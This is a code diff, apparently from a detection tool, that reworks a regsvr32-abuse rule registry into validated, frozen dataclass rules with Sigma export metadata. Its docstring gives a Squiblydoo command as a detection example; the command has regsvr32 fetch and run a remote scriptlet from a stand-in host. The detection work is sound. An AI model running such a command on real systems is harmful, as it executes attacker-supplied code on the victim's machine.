@@ -1,12 +1,21 @@
-"""The rule registry: each rule is declared once, with its metadata, next to its check.
+"""The rule registry: each rule is declared once, with its metadata, next to its check (in
+the rules package, by what it reads: rules/command_line.py, lineage.py, telemetry.py,
+persistence.py).
 
     @rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)", COMMAND_LINE, risk=85,
           family="scriptlets_and_remote_payloads", evidence="scriptlet", techniques=(T,),
           sources=("L01", ...),
           description="...", positives=("regsvr32 /s /i:http://x/a.sct scrobj.dll",),
-          negatives=("regsvr32 /s scrobj.dll",))
+          negatives=("regsvr32 /s scrobj.dll",),
+          sigma=spec("approximate", "process_creation", {...}, "selection_img and ...", "why"))
     def squiblydoo(inv):
         ...                     # the reason, naming the evidence, or None
+
+A declaration is checked when it is made (a ValueError names the rule and what is wrong): the id
+is R32-NNN, the risk an integer from 0 to 100, each ATT&CK id Tnnnn or Tnnnn.nnn, the family one
+of FAMILY_KEYS, the evidence one of EVIDENCE, each lowering context one of LOWERING, and
+``sigma`` either a Sigma translation (sigma_spec.spec) or sigma_spec.not_exportable(why): every
+rule says how it exports. The Rule it makes is a frozen dataclass.
 
 A rule's scope says what its check reads and which events it runs on, and the registry
 enforces it (the detector only calls a check on events of its scope):
@@ -22,7 +31,11 @@ Examples are data: a string is the command line of a regsvr32 process creation; 
 Sysmon fields, the rest filled from EXAMPLE_DEFAULTS for its event kind (None: absent). ``Rule.positives`` and
 ``Rule.negatives`` are the complete events.
 """
-from .families import FAMILIES_BY_KEY
+import dataclasses
+import re
+import typing
+
+from .sigma_spec import NotExportable, is_spec
 from .fields import (DNS, FILE, IMAGE_LOAD, KIND_BY_CODE, NETWORK, PERSISTENCE, PROCESS,
                      REGISTRY, REMOTE_THREAD)
 
@@ -96,6 +109,13 @@ EVIDENCE = {
 }
 
 
+# The detection families (families.py gives each its correlation search and ES metadata; it checks
+# that it describes exactly these, and only the build and the tests import it).
+FAMILY_KEYS = ("scriptlets_and_remote_payloads", "suspicious_paths_and_disguised_extensions",
+               "implicit_dllregisterserver_and_odd_invocations", "parent_lineage",
+               "children_of_regsvr32", "renamed_or_relocated_binary", "image_loads", "network",
+               "registry_persistence_and_scrobj_com_hijack")
+
 # Contexts that can explain a finding away (lowered_by=): what each means. When each holds and
 # how far it lowers: score.CONTEXTS.
 LOWERING = {
@@ -106,21 +126,42 @@ LOWERING = {
 }
 
 
-class Rule(object):
-    __slots__ = ("id", "title", "description", "techniques", "risk", "sources", "scope",
-                 "family", "evidence", "check", "positives", "negatives", "false_positives",
-                 "lowered_by")
+RULE_ID = re.compile(r"R32-[0-9]{3}\Z")
+TECHNIQUE = re.compile(r"T[0-9]{4}(?:\.[0-9]{3})?\Z")
 
-    def __init__(self, id, title, scope, check, risk, family, evidence, techniques, sources,
-                 description, positives, negatives, false_positives="", lowered_by=()):
-        self.id, self.title, self.description = id, title, description
-        self.scope, self.check, self.risk, self.family = scope, check, risk, family
-        self.evidence = evidence
-        self.lowered_by = tuple(lowered_by)     # LOWERING keys
-        self.techniques, self.sources = tuple(techniques), tuple(sources)
-        self.false_positives = false_positives
-        self.positives = tuple(example_event(scope, e) for e in positives)
-        self.negatives = tuple(example_event(scope, e) for e in negatives)
+@dataclasses.dataclass(frozen=True, eq=False)      # eq=False: compared and hashed by identity
+class Rule(object):
+    """One rule: its metadata, its check and its examples, typed and frozen, checked when made
+    (validate). Made by the rule() decorator."""
+
+    id: str                         # R32-NNN
+    title: str
+    scope: Scope                    # what the check reads, and which events it runs on
+    check: typing.Callable          # Invocation or Event -> the reason (str) or None
+    risk: int                       # 0-100
+    family: str                     # one of FAMILY_KEYS
+    evidence: str                   # one of EVIDENCE
+    techniques: typing.Tuple[str, ...]      # ATT&CK ids
+    sources: typing.Tuple[str, ...]         # the seed analytics and public rules it reproduces
+    description: str
+    positives: typing.Tuple[dict, ...]      # complete events it must fire on
+    negatives: typing.Tuple[dict, ...]      # complete events it must not fire on
+    sigma: object                   # sigma_spec.spec(...) or sigma_spec.not_exportable(why)
+    false_positives: str = ""
+    lowered_by: typing.Tuple[str, ...] = ()     # LOWERING keys
+
+    def __post_init__(self):
+        validate(self.id, self.scope, self.risk, self.family, self.evidence, self.techniques,
+                 self.sources, self.lowered_by, self.sigma)
+        for name in ("techniques", "sources", "lowered_by"):
+            object.__setattr__(self, name, tuple(getattr(self, name)))
+        for name in ("positives", "negatives"):
+            object.__setattr__(self, name, tuple(example_event(self.scope, e)
+                                                 for e in getattr(self, name)))
+
+    def replace(self, **changes):
+        """A copy with these fields changed (checked again)."""
+        return dataclasses.replace(self, **changes)
 
     @property
     def kinds(self):
@@ -130,28 +171,54 @@ class Rule(object):
     def severity(self):
         return severity_for(self.risk)
 
+    @property
+    def exportable(self):
+        return not isinstance(self.sigma, NotExportable)
+
     def __repr__(self):
         return "Rule(%s)" % self.id
+
+
+def validate(id, scope, risk, family, evidence, techniques, sources, lowered_by, sigma):
+    def bad(message, *args):
+        raise ValueError("%s: %s" % (id, message % args))
+    if not isinstance(id, str) or not RULE_ID.match(id):
+        bad("a rule id is R32-NNN")
+    if not isinstance(scope, Scope):
+        bad("unknown scope %r", scope)
+    if type(risk) is not int or not 0 <= risk <= 100:
+        bad("risk %r is not an integer from 0 to 100", risk)
+    if family not in FAMILY_KEYS:
+        bad("unknown family %r", family)
+    if evidence not in EVIDENCE:
+        bad("unknown kind of evidence %r", evidence)
+    if isinstance(techniques, str) or not techniques or not all(
+            isinstance(t, str) and TECHNIQUE.match(t) for t in techniques):
+        bad("ATT&CK ids %r are not a list of Tnnnn or Tnnnn.nnn", techniques)
+    if isinstance(sources, str):
+        bad("sources is a list, not %r", sources)
+    unknown = [key for key in lowered_by if key not in LOWERING]
+    if unknown or isinstance(lowered_by, str):
+        bad("unknown lowering context %r", unknown or lowered_by)
+    if not (is_spec(sigma) or isinstance(sigma, NotExportable)):
+        bad("sigma= is a Sigma translation (sigma_spec.spec) or not_exportable(why), not %r",
+            sigma)
 
 
 RULES_IN_ORDER = []       # as declared; RULES (below, by id) is built by finish()
 
 
 def rule(id, title, scope, risk, family, evidence, techniques, sources, description, positives,
-         negatives, false_positives="", lowered_by=()):
+         negatives, sigma, false_positives="", lowered_by=()):
     """Declare the decorated function as the check of a rule (see the module docstring)."""
-    if family not in FAMILIES_BY_KEY:
-        raise ValueError("%s: unknown family %r" % (id, family))
-    if evidence not in EVIDENCE:
-        raise ValueError("%s: unknown kind of evidence %r" % (id, evidence))
-    unknown = [key for key in lowered_by if key not in LOWERING]
-    if unknown or isinstance(lowered_by, str):
-        raise ValueError("%s: unknown lowering context %r" % (id, unknown or lowered_by))
+    validate(id, scope, risk, family, evidence, techniques, sources, lowered_by, sigma)
 
     def declare(check):
-        RULES_IN_ORDER.append(Rule(id, title, scope, check, risk, family, evidence, techniques,
-                                   sources, description, positives, negatives, false_positives,
-                                   lowered_by))
+        RULES_IN_ORDER.append(Rule(
+            id=id, title=title, scope=scope, check=check, risk=risk, family=family,
+            evidence=evidence, techniques=techniques, sources=sources, description=description,
+            positives=positives, negatives=negatives, sigma=sigma,
+            false_positives=false_positives, lowered_by=lowered_by))
         return check
     return declare
 
